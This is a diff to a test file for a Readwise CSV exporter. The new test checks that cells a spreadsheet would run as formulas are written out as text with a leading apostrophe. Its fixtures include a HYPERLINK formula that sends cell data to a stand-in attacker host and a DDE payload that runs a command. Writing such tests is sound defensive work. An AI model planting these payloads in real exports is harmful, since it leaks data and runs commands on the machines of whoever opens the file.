@@ -2,6 +2,7 @@ import { parse } from 'csv-parse/sync';
 import { stringify } from 'csv-stringify/sync';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
+import { withoutSpreadsheetGuard } from '../../../lib/spreadsheet-formulas';
 import { anyUserText } from '../../../test/arbitraries';
 import { collect, highlightRow, ODD_TEXTS, rowsOf } from './export-fixtures.test-helper';
 import { csvRecord, READWISE_CSV_COLUMNS, readwiseTimestamp, writeReadwiseCsv } from './readwise-csv';
@@ -48,6 +49,25 @@ describe('writeReadwiseCsv', () => {
     expect(records[1]?.[0]).toBe('line one\nline two');
   });
 
+  it('writes a cell a spreadsheet would run as a formula as text, a title planted by a web page too', async () => {
+    const highlight = highlightRow({
+      content: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+      source: "=cmd|' /C calc'!A0",
+      author: '+SUM(1+1)',
+      comment: '- buy milk',
+      tags: ['@SUM(1)'],
+    });
+    const [, record] = await parsed(rowsOf([{ highlight, externalId: '-2+3' }]));
+    expect(record?.slice(0, 5)).toEqual([
+      '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
+      "'=cmd|' /C calc'!A0",
+      "'+SUM(1+1)",
+      "'-2+3",
+      '- buy milk',
+    ]);
+    expect(record?.[6]?.startsWith("'@SUM(1)")).toBe(true);
+  });
+
   it('names a time location as Readwise does and leaves absent values empty', () => {
     const record = csvRecord(
       highlightRow({ source: null, author: null, location: { type: 'time', value: '01:02:03' } }),
@@ -64,7 +84,7 @@ describe('writeReadwiseCsv', () => {
     }));
     const [, ...records] = await parsed(rowsOf(rows));
     expect(records).toEqual(rows.map((row) => csvRecord(row.highlight, row.externalId)));
-    expect(records.map((record) => record[0])).toEqual(ODD_TEXTS);
+    expect(records.map((record) => withoutSpreadsheetGuard(record[0] ?? ''))).toEqual(ODD_TEXTS);
   });
 
   it('writes a long export, stringified in batches, as one record per highlight in order', async () => {
@@ -87,7 +107,8 @@ describe('writeReadwiseCsv', () => {
         const [, ...records] = await parsed(rowsOf(rows));
         // The file is UTF-8: a lone surrogate cannot be written and comes back as U+FFFD.
         const wellFormed = (text: string) => Buffer.from(text, 'utf8').toString('utf8');
-        expect(records.map((record) => [record[0], record[4]])).toEqual(
+        const read = (cell: string | undefined) => withoutSpreadsheetGuard(cell ?? '');
+        expect(records.map((record) => [read(record[0]), read(record[4])])).toEqual(
           pairs.map(([content, comment]) => [wellFormed(content), wellFormed(comment)]),
         );
       }),
